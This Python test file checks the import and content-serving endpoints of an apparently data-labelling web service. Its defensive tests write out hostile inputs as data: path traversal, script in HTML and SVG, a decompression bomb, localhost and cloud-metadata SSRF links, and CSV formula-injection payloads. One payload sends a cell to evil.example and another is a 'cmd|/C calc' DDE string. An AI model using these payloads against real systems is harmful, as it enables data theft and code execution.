"""Data in from the browser (server folders, uploads, CSVs) and item content out, over HTTP."""

from __future__ import annotations

import csv
import hashlib
import io
import itertools
import json
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from PIL import Image

from labelloop.runtime import Runtime
from labelloop.store.models import ModelVersion
from tests.data_support import StubServer, image_route, png, png_declaring
from tests.support import wait_until


def gif() -> bytes:
    buf = io.BytesIO()
    Image.new("P", (4, 4)).save(buf, format="GIF")
    return buf.getvalue()


NAMES = itertools.count(1)


def new_task(c: TestClient, category: str, labels: list[str], **extra: Any) -> int:
    body = {"name": f"t{next(NAMES)}", "category": category, "labels": labels, **extra}
    r = c.post("/api/v1/tasks", json=body)
    assert r.status_code == 201, r.text
    return int(r.json()["id"])


def test_folders_below_import_roots_only(
    app_client: TestClient, image_root: Path, digit_files: list[tuple[str, str]], tmp_path: Path
) -> None:
    c = app_client
    sub = image_root / "more"
    sub.mkdir()
    Image.new("L", (8, 8), 200).save(sub / "a.png")
    (sub / "notes.txt").write_text("not an image")
    roots = c.get("/api/v1/import/folders").json()
    assert roots["roots"] == [str(image_root.resolve())]
    assert roots["folders"][0]["images"] == len(digit_files)
    listing = c.get("/api/v1/import/folders", params={"path": str(image_root)}).json()
    assert listing["images"] == len(digit_files) and listing["parent"] is None
    assert [f["name"] for f in listing["folders"]] == ["more"]
    assert listing["folders"][0]["images"] == 1
    for outside in (str(tmp_path), f"{image_root}/../", "/etc"):
        r = c.get("/api/v1/import/folders", params={"path": outside})
        assert r.status_code == 403 and r.json()["error"] == "forbidden_path"
    assert c.get("/api/v1/import/folders", params={"path": "relative"}).status_code == 422

    task_id = new_task(c, "image-classification", [str(d) for d in range(10)])
    r = c.post(
        f"/api/v1/tasks/{task_id}/import/folder",
        json={"path": str(image_root), "recursive": False},
    )
    assert r.status_code == 201 and r.json()["created"] == len(digit_files)
    again = c.post(f"/api/v1/tasks/{task_id}/import/folder", json={"path": str(image_root)})
    assert again.json() == {
        "folder": str(image_root.resolve()),
        "created": 1,
        "existing": len(digit_files),
        "labelled": 0,
        "labels_added": [],
        "skipped": [{"file": "more/notes.txt", "reason": again.json()["skipped"][0]["reason"]}],
        "skipped_total": 1,
    }
    assert again.json()["skipped"][0]["reason"].startswith("a .txt file, not an image")
    r = c.post(f"/api/v1/tasks/{task_id}/import/folder", json={"path": str(tmp_path)})
    assert r.status_code == 403

    # The content endpoint serves the image with an image type the browser can show.
    wait_until(lambda: c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["pending"] == 0)
    item = c.get(f"/api/v1/tasks/{task_id}/next", params={"limit": 1}).json()["items"][0]
    r = c.get(f"/api/v1/tasks/{task_id}/items/{item['id']}/content")
    assert r.status_code == 200 and r.headers["content-type"] == "image/png"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.content == Path(item["data"]).read_bytes()
    assert c.get(f"/api/v1/tasks/{task_id}/items/999999/content").status_code == 404


def test_uploads_are_kept_in_the_task_folder(app_client: TestClient, rt_data: Path) -> None:
    c = app_client
    task_id = new_task(c, "image-classification", ["dark", "light"])
    buf = io.BytesIO()
    Image.new("RGB", (4, 4), (10, 10, 10)).save(buf, format="JPEG")
    files = [
        ("files", ("dark.jpg", buf.getvalue(), "image/jpeg")),
        ("files", ("dark-again.jpg", buf.getvalue(), "image/jpeg")),
        ("files", ("evil.html", b"<script>alert(1)</script>", "text/html")),
    ]
    r = c.post(f"/api/v1/tasks/{task_id}/uploads", files=files)
    assert r.status_code == 201, r.text
    answer = r.json()
    assert answer["created"] == 1 and answer["existing"] == 0 and answer["refused"] == ["evil.html"]
    assert [x["file"] for x in answer["skipped"]] == ["evil.html"]
    assert "not an image" in answer["skipped"][0]["reason"], answer
    stored = list((rt_data / f"task-{task_id}" / "Uploads").iterdir())
    assert len(stored) == 1 and stored[0].suffix == ".jpg"
    r = c.post(
        f"/api/v1/tasks/{task_id}/uploads", files=[("files", ("x.txt", b"hello", "text/plain"))]
    )
    assert r.status_code == 422 and "none of the uploaded files is an image" in r.json()["detail"]
    wait_until(lambda: c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["ready"] == 1)


def test_csv_of_texts(app_client: TestClient) -> None:
    c = app_client
    task_id = new_task(c, "text-classification", ["pos", "neg"])
    csv_text = 'id,text\n1,"great, loved it"\n2,awful\n3,\n2,awful again\n'
    r = c.post(
        f"/api/v1/tasks/{task_id}/import/csv",
        files={"file": ("t.csv", csv_text.encode(), "text/csv")},
    )
    assert r.status_code == 201, r.text
    assert r.json() == {
        "created": 2,
        "existing": 0,
        "skipped": 1,
        "skipped_rows": [{"file": "line 4", "reason": "no text"}],
        "text_column": "text",
        "label_column": None,
        "labelled": 0,
        "labels_added": [],
    }
    item = c.get(f"/api/v1/tasks/{task_id}/next", params={"limit": 5}).json()["items"]
    assert sorted(i["data"] for i in item) == ["awful", "great, loved it"]
    r = c.get(f"/api/v1/tasks/{task_id}/items/{item[0]['id']}/content")
    assert r.headers["content-type"].startswith("text/plain") and r.text == item[0]["data"]
    # Another column by name; a column that is not there is a clear error.
    r = c.post(
        f"/api/v1/tasks/{task_id}/import/csv",
        files={"file": ("t.csv", b"review,stars\nmeh,2\n", "text/csv")},
        data={"text_column": "review"},
    )
    assert r.json()["created"] == 1
    r = c.post(
        f"/api/v1/tasks/{task_id}/import/csv",
        files={"file": ("t.csv", b"a,b\nx,y\n", "text/csv")},
        data={"text_column": "body"},
    )
    assert r.status_code == 422 and "no column 'body'" in r.json()["detail"]
    # A CSV is for text tasks, a folder for image tasks.
    image_task = new_task(c, "image-classification", ["a", "b"])
    r = c.post(
        f"/api/v1/tasks/{image_task}/import/csv",
        files={"file": ("t.csv", b"text\nx\n", "text/csv")},
    )
    assert r.status_code == 422 and "image-classification" in r.json()["detail"]


# --- what item links may reach, and what /content serves -----------------------------------------


def test_item_links_cannot_name_the_data_folder(
    app_client: TestClient, rt_data: Path, image_root: Path
) -> None:
    """The store, the Label Studio tokens and other tasks' uploads are refused when the item is
    created, however the path is spelled."""
    c = app_client
    (rt_data / "labelstudio").mkdir(parents=True, exist_ok=True)
    (rt_data / "labelstudio" / "credentials.json").write_text('{"http://ls": "secret"}')
    task_id = new_task(c, "image-classification", ["a", "b"])
    for link in (
        str(rt_data / "labelloop.db"),
        f"file://{rt_data}/labelloop.db",
        f"{image_root}/../data/labelloop.db",
        str(rt_data / "labelstudio" / "credentials.json"),
    ):
        r = c.post(f"/api/v1/tasks/{task_id}/items", json={"items": [{"data": link}]})
        assert r.status_code == 403, (link, r.text)
        assert r.json()["error"] == "forbidden_path" and "items[0]" in r.json()["detail"]
    assert c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["items"] == 0


def test_uploads_are_named_by_reference_within_their_task(
    app_client: TestClient, rt_data: Path
) -> None:
    c = app_client
    a = new_task(c, "image-classification", ["dark", "light"])
    b = new_task(c, "image-classification", ["dark", "light"])
    r = c.post(f"/api/v1/tasks/{a}/uploads", files=[("files", ("x.png", png((8, 8)), "image/png"))])
    assert r.status_code == 201, r.text
    item_id = c.get(f"/api/v1/tasks/{a}/next").json()["items"][0]["id"]
    item = c.get(f"/api/v1/tasks/{a}/items/{item_id}").json()
    name = item["data"].removeprefix("upload:")
    assert item["data"].startswith("upload:") and str(rt_data) not in item["data"]
    assert (rt_data / f"task-{a}" / "Uploads" / name).read_bytes() == png((8, 8))
    got = c.get(f"/api/v1/tasks/{a}/items/{item_id}/content")
    assert got.status_code == 200 and got.headers["content-type"] == "image/png"
    assert got.content == png((8, 8))
    wait_until(lambda: c.get(f"/api/v1/tasks/{a}").json()["counts"]["ready"] == 1)
    # Another task can name neither the reference nor the file.
    r = c.post(f"/api/v1/tasks/{b}/items", json={"items": [{"data": item["data"]}]})
    assert r.status_code == 422 and "no upload" in r.json()["detail"]
    path = str(rt_data / f"task-{a}" / "Uploads" / name)
    r = c.post(f"/api/v1/tasks/{b}/items", json={"items": [{"data": path}]})
    assert r.status_code == 403 and "data folder" in r.json()["detail"]


def test_items_stored_with_a_path_into_their_uploads_keep_working(
    app_client: TestClient, rt: Runtime, rt_data: Path
) -> None:
    """Before uploads were named by reference, items held the path of the uploaded file: they are
    still read (content, features), by their own task only."""
    from labelloop.loop.scheduling import featurize_jobs
    from labelloop.service.common import enqueue
    from labelloop.store.models import Item

    c = app_client
    a = new_task(c, "image-classification", ["dark", "light"])
    b = new_task(c, "image-classification", ["dark", "light"])
    name = f"{hashlib.sha256(png((8, 8))).hexdigest()}.png"
    stored = rt_data / f"task-{a}" / "Uploads" / name
    stored.parent.mkdir(parents=True)
    stored.write_bytes(png((8, 8)))
    with rt.session() as s:
        old = Item(task_id=a, external_id=f"upload:{name[:64]}", data=str(stored))
        stolen = Item(task_id=b, external_id="x", data=str(stored))
        s.add_all([old, stolen])
        s.flush()
        ids = (old.id, stolen.id)
        jobs = featurize_jobs(s, a, [old.id]) + featurize_jobs(s, b, [stolen.id])
    enqueue(rt, jobs)
    got = c.get(f"/api/v1/tasks/{a}/items/{ids[0]}/content")
    assert got.status_code == 200 and got.content == png((8, 8))
    assert c.get(f"/api/v1/tasks/{b}/items/{ids[1]}/content").status_code == 403
    wait_until(lambda: c.get(f"/api/v1/tasks/{a}/items/{ids[0]}").json()["status"] == "ready")
    wait_until(lambda: c.get(f"/api/v1/tasks/{b}/items/{ids[1]}").json()["status"] == "failed")
    # Uploading the same image again finds the stored item.
    r = c.post(f"/api/v1/tasks/{a}/uploads", files=[("files", ("x.png", png((8, 8)), "image/png"))])
    assert r.json()["existing"] == 1 and r.json()["created"] == 0


def test_content_is_only_what_the_task_can_show(app_client: TestClient, image_root: Path) -> None:
    """An image task's content is an image of a known format with its own type, or an error in
    people's words: never another kind of file as octet-stream."""
    c = app_client
    task_id = new_task(c, "image-classification", ["a", "b"])
    files = {
        "notes.png": b"user: admin\npassword: hunter2\n",
        "page.png": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "ok.gif": gif(),
    }
    for name, raw in files.items():
        (image_root / name).write_bytes(raw)
    r = c.post(
        f"/api/v1/tasks/{task_id}/items",
        json={"items": [{"data": str(image_root / n), "external_id": n} for n in files]},
    )
    assert r.status_code == 201, r.text
    ids = {it["external_id"]: it["id"] for it in r.json()["items"]}
    for name in ("notes.png", "page.png"):
        got = c.get(f"/api/v1/tasks/{task_id}/items/{ids[name]}/content")
        assert got.status_code == 422 and "not an image" in got.json()["detail"], got.text
        assert b"hunter2" not in got.content and b"script" not in got.content
    got = c.get(f"/api/v1/tasks/{task_id}/items/{ids['ok.gif']}/content")
    assert got.status_code == 200 and got.headers["content-type"] == "image/gif"
    assert got.headers["x-content-type-options"] == "nosniff"
    # The featurize job says the same, in people's words (no Python repr of a buffer).
    wait_until(lambda: c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["pending"] == 0)
    item = c.get(f"/api/v1/tasks/{task_id}/items/{ids['notes.png']}").json()
    assert item["status"] == "failed" and "not an image" in item["error"]
    assert "<_io" not in item["error"] and " at 0x" not in item["error"]


def test_a_decompression_bomb_is_refused(app_client: TestClient, image_root: Path) -> None:
    c = app_client
    task_id = new_task(c, "image-classification", ["a", "b"])
    bomb = png_declaring(60000, 60000)
    r = c.post(
        f"/api/v1/tasks/{task_id}/uploads", files=[("files", ("bomb.png", bomb, "image/png"))]
    )
    assert r.status_code == 422 and "bomb.png" in r.json()["detail"], r.text
    assert "pixels" in r.json()["detail"]
    r = c.post(
        f"/api/v1/tasks/{task_id}/uploads",
        files=[
            ("files", ("bomb.png", bomb, "image/png")),
            ("files", ("ok.png", png(), "image/png")),
        ],
    )
    assert r.status_code == 201 and r.json()["refused"] == ["bomb.png"] and r.json()["created"] == 1
    # A bomb below an import root: its content and its features are refused, the server goes on.
    (image_root / "bomb.png").write_bytes(bomb)
    r = c.post(
        f"/api/v1/tasks/{task_id}/items", json={"items": [{"data": str(image_root / "bomb.png")}]}
    )
    item_id = r.json()["items"][0]["id"]
    got = c.get(f"/api/v1/tasks/{task_id}/items/{item_id}/content")
    assert got.status_code == 422 and "pixels" in got.json()["detail"]
    wait_until(
        lambda: c.get(f"/api/v1/tasks/{task_id}/items/{item_id}").json()["status"] != "pending"
    )
    item = c.get(f"/api/v1/tasks/{task_id}/items/{item_id}").json()
    assert item["status"] == "failed" and "pixels" in item["error"]


def test_control_characters_in_paths_are_a_4xx(app_client: TestClient, image_root: Path) -> None:
    c = app_client
    task_id = new_task(c, "image-classification", ["a", "b"])
    for path in (f"{image_root}\x00/x", f"{image_root}/a\nb", "\x00"):
        r = c.post(f"/api/v1/tasks/{task_id}/import/folder", json={"path": path})
        assert r.status_code == 422 and "control characters" in r.json()["detail"], r.text
        r = c.get("/api/v1/import/folders", params={"path": path})
        assert r.status_code == 422 and "control characters" in r.json()["detail"], r.text
        r = c.post(f"/api/v1/tasks/{task_id}/items", json={"items": [{"data": path + ".png"}]})
        assert r.status_code == 422, r.text
    r = c.post(  # lone surrogates, as JSON escapes
        f"/api/v1/tasks/{task_id}/import/folder",
        content=json.dumps({"path": f"{image_root}/\udcff\ud800"}).encode(),
        headers={"content-type": "application/json"},
    )
    assert r.status_code == 422, r.text


def test_a_folder_import_leaves_out_links_out_of_the_roots(
    app_client: TestClient, image_root: Path, tmp_path: Path
) -> None:
    c = app_client
    task_id = new_task(c, "image-classification", ["a", "b"])
    (image_root / "a.png").write_bytes(png())
    outside = tmp_path / "outside.png"
    outside.write_bytes(png())
    (image_root / "b.png").symlink_to(outside)
    r = c.post(f"/api/v1/tasks/{task_id}/import/folder", json={"path": str(image_root)})
    assert r.status_code == 201 and r.json()["created"] == 1, r.text


def test_local_addresses_are_refused_when_the_item_is_created(
    app_client: TestClient, rt: Runtime
) -> None:
    """Fetching starts when an item is created: a link to a local address is a 403 then, and the
    address never sees a request; the operator's allow-list lets it through."""
    c = app_client
    task_id = new_task(c, "image-classification", ["a", "b"])
    with StubServer({"/img.png": image_route()}) as stub:
        for host in ("127.0.0.1", "localhost", "2130706433", "[::ffff:127.0.0.1]"):
            link = f"http://{host}:{stub.port}/img.png"
            r = c.post(f"/api/v1/tasks/{task_id}/items", json={"items": [{"data": link}]})
            assert r.status_code == 403, (host, r.text)
            assert r.json()["error"] == "forbidden_address"
        r = c.post(
            f"/api/v1/tasks/{task_id}/items",
            json={"items": [{"data": "http://169.254.169.254/latest/meta-data/"}]},
        )
        assert r.status_code == 403
        assert stub.seen == []
        assert c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["items"] == 0
        rt.settings.fetch_allow_hosts = ["127.0.0.1"]
        r = c.post(
            f"/api/v1/tasks/{task_id}/items", json={"items": [{"data": f"{stub.url}/img.png"}]}
        )
        assert r.status_code == 201, r.text
        item_id = r.json()["items"][0]["id"]
        wait_until(lambda: c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["ready"] == 1)
        got = c.get(f"/api/v1/tasks/{task_id}/items/{item_id}/content")
        assert got.status_code == 200 and got.content == png()


# --- CSV in and out -------------------------------------------------------------------------------


def test_long_csv_fields(app_client: TestClient) -> None:
    """A text item may be long: a field over the csv module's default 131,072 characters is
    taken, up to what an item holds (1,000,000); longer, or a NUL, is a 4xx naming the line."""
    c = app_client
    task_id = new_task(c, "text-classification", ["pos", "neg"])
    long_text = "word " * 40_000
    csv_text = f'id,text\n1,short\n2,"{long_text}"\n'
    r = c.post(
        f"/api/v1/tasks/{task_id}/import/csv",
        files={"file": ("t.csv", csv_text.encode(), "text/csv")},
    )
    assert r.status_code == 201 and r.json()["created"] == 2, r.text
    items = c.get(f"/api/v1/tasks/{task_id}/export").text.splitlines()
    assert any(len(json.loads(line)["data"]) == len(long_text.strip()) for line in items)
    too_long = "x" * 1_000_001
    r = c.post(
        f"/api/v1/tasks/{task_id}/import/csv",
        files={"file": ("t.csv", f"id,text\n1,ok\n2,{too_long}\n".encode(), "text/csv")},
    )
    assert r.status_code == 422 and "line 3" in r.json()["detail"], r.text[:300]
    assert "1,000,000 characters" in r.json()["detail"]
    r = c.post(
        f"/api/v1/tasks/{task_id}/import/csv",
        files={"file": ("t.csv", b"id,text\n1,ok\n2,a\x00b\n", "text/csv")},
    )
    assert r.status_code == 422 and "NUL" in r.json()["detail"] and "line 3" in r.json()["detail"]
    assert c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["items"] == 2
    # A missing column is named in words, not as a Python list.
    r = c.post(
        f"/api/v1/tasks/{task_id}/import/csv",
        files={"file": ("t.csv", b"a,b\nx,y\n", "text/csv")},
        data={"text_column": "body"},
    )
    assert r.status_code == 422 and "['" not in r.json()["detail"]


def test_csv_export_cells_never_run_as_formulas(app_client: TestClient) -> None:
    c = app_client
    task_id = new_task(c, "text-classification", ["pos", "neg"])
    texts = {
        "f1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "f2": "+1+cmd|' /C calc'!A0",
        "f3": "-2+3",
        "f4": "@SUM(1,2)",
        "f5": "\t=1+1",
        "f6": "\r=1+1",
        "plain": "a fine review",
    }
    r = c.post(
        f"/api/v1/tasks/{task_id}/items",
        json={"items": [{"data": t, "external_id": k} for k, t in texts.items()]},
    )
    assert r.status_code == 201, r.text
    formula_id = c.post(
        f"/api/v1/tasks/{task_id}/items",
        json={"items": [{"data": "just text", "external_id": "=cmd()"}]},
    ).json()["items"][0]["id"]
    r = c.post(
        f"/api/v1/tasks/{task_id}/annotations",
        json={"annotations": [{"item_id": formula_id, "labels": ["pos"], "annotator": "@me"}]},
    )
    assert r.status_code == 201, r.text
    rows = list(
        csv.DictReader(io.StringIO(c.get(f"/api/v1/tasks/{task_id}/export?format=csv").text))
    )
    by_id = {row["external_id"]: row for row in rows}
    for key, text in texts.items():
        expected = text if key == "plain" else "'" + text
        assert by_id[key]["data"] == expected, key
    assert by_id["'=cmd()"]["annotator"] == "'@me"
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
    )
    # JSON lines keep every value as it is.
    lines = [json.loads(x) for x in c.get(f"/api/v1/tasks/{task_id}/export").text.splitlines()]
    assert {x["external_id"]: x["data"] for x in lines if x["external_id"] in texts} == texts


# --- what comes with the data: sub-folders, classes, label columns, what was left out ------------


def _labels_of(c: TestClient, task_id: int) -> dict[str, tuple[list[str] | None, str | None]]:
    """File name (or text) -> (its labels, who gave them), for every item of the task."""
    out: dict[str, tuple[list[str] | None, str | None]] = {}
    listing = c.get(f"/api/v1/tasks/{task_id}/items", params={"limit": 200}).json()
    for it in listing["items"]:
        item = c.get(f"/api/v1/tasks/{task_id}/items/{it['id']}").json()
        who = item["annotations"][-1]["annotator"] if item["annotations"] else None
        out[Path(item["data"]).name if "/" in item["data"] else item["data"]] = (
            item["labels"],
            who,
        )
    return out


def test_a_folder_per_class_gives_labels(app_client: TestClient, image_root: Path) -> None:
    """Sub-folders are read (deeper ones too); with labels_from_folders the first folder below the
    imported one is the label, recorded once as an imported human label; names the task lacks are
    refused unless asked for, and only while the task has no model."""
    c = app_client
    flowers = image_root / "flowers"
    for name, shade in (("rose", 40), ("tulip", 200)):
        (flowers / name / "deeper").mkdir(parents=True)
        Image.new("L", (8, 8), shade).save(flowers / name / f"{name}-1.png")
        Image.new("L", (8, 8), shade + 5).save(flowers / name / "deeper" / f"{name}-2.png")
    (flowers / "rose" / "README.md").write_text("notes")
    (flowers / ".cache").mkdir()
    Image.new("L", (8, 8), 9).save(flowers / "loose.png")

    task_id = new_task(c, "image-classification", ["rose", "daisy"])
    body = {"path": str(flowers), "labels_from_folders": True}
    r = c.post(f"/api/v1/tasks/{task_id}/import/folder", json=body)
    assert r.status_code == 422 and '"tulip"' in r.json()["detail"], r.text
    assert "add_labels" in r.json()["detail"]
    assert c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["items"] == 0  # nothing half-done

    r = c.post(f"/api/v1/tasks/{task_id}/import/folder", json={**body, "add_labels": True})
    assert r.status_code == 201, r.text
    got = r.json()
    assert got["created"] == 5 and got["labelled"] == 4 and got["labels_added"] == ["tulip"]
    assert {(x["file"], x["reason"].split(",")[0]) for x in got["skipped"]} == {
        (".cache", "a hidden folder: not read"),
        ("rose/README.md", "a .md file"),
    }
    task = c.get(f"/api/v1/tasks/{task_id}").json()
    assert task["labels"] == ["rose", "daisy", "tulip"] and task["counts"]["human_labelled"] == 4
    labels = _labels_of(c, task_id)
    assert labels["rose-2.png"] == (["rose"], "imported")
    assert labels["tulip-1.png"] == (["tulip"], "imported")
    assert labels["loose.png"] == (None, None)

    # Again: nothing new, no label recorded twice.
    again = c.post(f"/api/v1/tasks/{task_id}/import/folder", json=body).json()
    assert (again["created"], again["labelled"]) == (0, 0)

    # A folder without class folders says what it needs.
    r = c.post(
        f"/api/v1/tasks/{task_id}/import/folder",
        json={"path": str(flowers / "rose" / "deeper"), "labels_from_folders": True},
    )
    assert r.status_code == 422 and "sub-folder" in r.json()["detail"]


def test_labels_cannot_be_added_once_a_model_exists(
    app_client: TestClient, rt: Runtime, image_root: Path
) -> None:
    c = app_client
    (image_root / "new" / "cat").mkdir(parents=True)
    (image_root / "new" / "cat" / "c.png").write_bytes(png())
    task_id = new_task(c, "image-classification", ["a", "b"])
    with rt.session() as s:
        s.add(
            ModelVersion(
                task_id=task_id, version=0, job_key="x", learner="pool-svm", label_revision=0
            )
        )
    r = c.post(
        f"/api/v1/tasks/{task_id}/import/folder",
        json={"path": str(image_root / "new"), "labels_from_folders": True, "add_labels": True},
    )
    assert r.status_code == 409 and "create a new task" in r.json()["detail"], r.text


def test_a_csv_names_its_columns(app_client: TestClient) -> None:
    """A CSV without a text column is refused with its header (never a guess); a label column
    gives imported human labels, separated by | for a multi-label task."""
    c = app_client
    task_id = new_task(c, "text-classification", ["ham", "spam"])
    spam = b"label,message\nham,see you at noon\nspam,WIN A PRIZE\n,no label here\n"
    r = c.post(f"/api/v1/tasks/{task_id}/import/csv", files={"file": ("s.csv", spam, "text/csv")})
    assert r.status_code == 422, r.text
    detail = r.json()["detail"]
    assert "no column named 'text'" in detail and "'label', 'message'" in detail
    assert "text_column" in detail
    assert c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["items"] == 0

    r = c.post(
        f"/api/v1/tasks/{task_id}/import/csv",
        files={"file": ("s.csv", spam, "text/csv")},
        data={"text_column": "message", "label_column": "label"},
    )
    assert r.status_code == 201, r.text
    got = r.json()
    assert (got["created"], got["labelled"], got["text_column"], got["label_column"]) == (
        3,
        2,
        "message",
        "label",
    )
    labels = _labels_of(c, task_id)
    assert labels["WIN A PRIZE"] == (["spam"], "imported")
    assert labels["no label here"] == (None, None)

    # Labels the task lacks: refused, or added on request.
    odd = b"text,label\nhello,greeting\n"
    r = c.post(
        f"/api/v1/tasks/{task_id}/import/csv",
        files={"file": ("o.csv", odd, "text/csv")},
        data={"label_column": "label"},
    )
    assert r.status_code == 422 and '"greeting"' in r.json()["detail"]
    r = c.post(
        f"/api/v1/tasks/{task_id}/import/csv",
        files={"file": ("o.csv", odd, "text/csv")},
        data={"label_column": "label", "add_labels": "true"},
    )
    assert r.status_code == 201 and r.json()["labels_added"] == ["greeting"], r.text

    multi = new_task(c, "text-classification", ["red", "blue"], extra="multi-label")
    r = c.post(
        f"/api/v1/tasks/{multi}/import/csv",
        files={"file": ("m.csv", b"text,tags\nsky at dusk,red|blue\nsea,blue\n", "text/csv")},
        data={"label_column": "tags"},
    )
    assert r.status_code == 201, r.text
    assert sorted(_labels_of(c, multi)["sky at dusk"][0] or []) == ["blue", "red"]


def test_task_names_are_unique(app_client: TestClient) -> None:
    c = app_client
    body = {"name": "cats", "category": "text-classification", "labels": ["a", "b"]}
    first = c.post("/api/v1/tasks", json=body).json()
    r = c.post("/api/v1/tasks", json=body)
    assert r.status_code == 409 and r.json()["error"] == "conflict", r.text
    assert '"cats" exists already' in r.json()["detail"]
    other = c.post("/api/v1/tasks", json={**body, "name": "dogs"}).json()
    r = c.patch(f"/api/v1/tasks/{other['id']}", json={"name": "cats"})
    assert r.status_code == 409
    assert c.patch(f"/api/v1/tasks/{first['id']}", json={"name": "cats"}).status_code == 200
    assert len(c.get("/api/v1/tasks").json()) == 2


# --- JSON lines of texts with their spans ---------------------------------------------------------

ADA = "Ada Lovelace met Charles Babbage in London."
ADA_SPANS = [
    {"start": 0, "end": 12, "label": "PER"},
    {"start": 17, "end": 32, "label": "PER"},
    {"start": 36, "end": 42, "label": "LOC"},
]


def import_jsonl(c: TestClient, task_id: int, raw: str, **form: str) -> Any:
    return c.post(
        f"/api/v1/tasks/{task_id}/import/jsonl",
        files={"file": ("t.jsonl", raw.encode(), "application/jsonl")},
        data=form,
    )


def text_id(text: str) -> str:
    return f"csv:text:{hashlib.sha256(text.encode()).hexdigest()}"


def human_labels(c: TestClient, task_id: int) -> dict[str | None, list[Any] | None]:
    """External id -> the item's labels (spans), for every item of the task."""
    items = c.get(f"/api/v1/tasks/{task_id}/items", params={"limit": 100}).json()["items"]
    out = {}
    for it in items:
        full = c.get(f"/api/v1/tasks/{task_id}/items/{it['id']}").json()
        assert all(a["annotator"] == "imported" for a in full["annotations"])
        out[it["external_id"]] = full["labels"]
    return out


def test_jsonl_spans_are_imported_as_human_labels_each_bad_line_named(
    app_client: TestClient,
) -> None:
    c = app_client
    task_id = new_task(c, "text-spans", ["PER", "LOC"])
    studio = {
        "id": 7,
        "data": {"text": "Paris in spring."},
        "annotations": [
            {"was_cancelled": True, "result": []},
            {
                "result": [
                    {
                        "from_name": "label",
                        "to_name": "text",
                        "type": "labels",
                        "value": {"start": 0, "end": 5, "text": "Paris", "labels": ["LOC"]},
                    }
                ]
            },
        ],
    }
    lines = [
        json.dumps({"id": "a", "text": ADA, "spans": ADA_SPANS[::-1], "answer": "accept"}),
        json.dumps({"text": "Grace Hopper", "label": [[0, 12, "PER"]]}),  # doccano
        json.dumps(studio),
        "",  # blank lines are not lines of data
        json.dumps({"text": "Nothing here.", "spans": []}),  # an answer: no entity
        json.dumps({"text": "Not labelled yet."}),
        "{not json",
        json.dumps({"spans": []}),
        json.dumps({"text": "Short", "spans": [{"start": 0, "end": 9, "label": "PER"}]}),
        json.dumps({"text": ADA, "spans": [ADA_SPANS[0], {**ADA_SPANS[0], "end": 20}]}),
        json.dumps({"text": "Rejected", "spans": [], "answer": "reject"}),
        json.dumps({"id": "a", "text": ADA, "spans": []}),
        json.dumps({"text": "Bad", "spans": [{"start": "0", "end": 3, "label": "PER"}]}),
        json.dumps(["a list"]),
    ]
    r = import_jsonl(c, task_id, "\n".join(lines) + "\n")
    assert r.status_code == 201, r.text
    got = r.json()
    assert (got["created"], got["existing"], got["labelled"]) == (5, 0, 4)
    assert got["skipped"] == 8
    reasons = {x["file"]: x["reason"] for x in got["skipped_lines"]}
    assert list(reasons) == [f"line {n}" for n in (7, 8, 9, 10, 11, 12, 13, 14)]
    assert reasons["line 7"].startswith("not JSON")
    assert reasons["line 8"].startswith("no text")
    assert "ends after the text, which has 5 characters" in reasons["line 9"]
    assert "overlaps span 0-12" in reasons["line 10"]
    assert "'reject'" in reasons["line 11"]
    assert reasons["line 12"] == "the same item as line 1"
    assert "whole numbers" in reasons["line 13"]
    assert reasons["line 14"] == "not a JSON object"
    labels = human_labels(c, task_id)
    assert labels["jsonl:a"] == ADA_SPANS  # in order of position
    assert labels["jsonl:7"] == [{"start": 0, "end": 5, "label": "LOC"}]
    # Without an id, the text names the item (as a CSV's): the same text is not added twice.
    assert labels[text_id("Grace Hopper")] == [{"start": 0, "end": 12, "label": "PER"}]
    assert labels[text_id("Nothing here.")] == []
    assert labels[text_id("Not labelled yet.")] is None  # an item to label
    # Append-only: the same file again adds nothing, and records no label twice.
    again = import_jsonl(c, task_id, "\n".join(lines)).json()
    assert (again["created"], again["existing"], again["labelled"]) == (0, 5, 0)
    first = c.get(f"/api/v1/tasks/{task_id}/items", params={"limit": 100}).json()["items"]
    history = [c.get(f"/api/v1/tasks/{task_id}/items/{it['id']}").json() for it in first]
    assert sum(len(h["annotations"]) for h in history) == 4


def test_jsonl_labels_the_task_lacks_are_refused_unless_added(app_client: TestClient) -> None:
    c = app_client
    task_id = new_task(c, "text-spans", ["PER"])
    raw = json.dumps({"id": "a", "text": ADA, "spans": ADA_SPANS}) + "\n"
    r = import_jsonl(c, task_id, raw)
    assert r.status_code == 422 and '"LOC"' in r.json()["detail"], r.text
    assert c.get(f"/api/v1/tasks/{task_id}/items").json()["items"] == []  # nothing stored
    r = import_jsonl(c, task_id, raw, add_labels="true")
    assert r.status_code == 201 and r.json()["labels_added"] == ["LOC"], r.text
    assert c.get(f"/api/v1/tasks/{task_id}").json()["labels"] == ["PER", "LOC"]
    assert human_labels(c, task_id)["jsonl:a"] == ADA_SPANS
    # An item the task has under that id with another text keeps its text; the line's spans,
    # which point into the line's text, are not recorded.
    other = json.dumps({"id": "b", "text": "Bob"}) + "\n"
    import_jsonl(c, task_id, other)
    r = import_jsonl(
        c,
        task_id,
        json.dumps({"id": "b", "text": "London", "spans": [ADA_SPANS[2] | {"start": 0, "end": 6}]}),
    )
    assert r.status_code == 201, r.text
    assert r.json()["skipped_lines"] == [
        {"file": "line 1", "reason": "the task's item 'jsonl:b' has another text"}
    ]
    assert human_labels(c, task_id)["jsonl:b"] is None


def test_jsonl_round_trips_an_export_and_reads_label_studio_arrays(app_client: TestClient) -> None:
    c = app_client
    source = new_task(c, "text-spans", ["PER", "LOC"])
    import_jsonl(c, source, json.dumps({"id": "a", "text": ADA, "spans": ADA_SPANS}))
    exported = c.get(f"/api/v1/tasks/{source}/export").text
    target = new_task(c, "text-spans", ["PER", "LOC"])
    r = import_jsonl(c, target, exported)
    assert r.status_code == 201 and r.json()["labelled"] == 1, r.text
    assert human_labels(c, target) == {"jsonl:a": ADA_SPANS}  # its own id, as exported
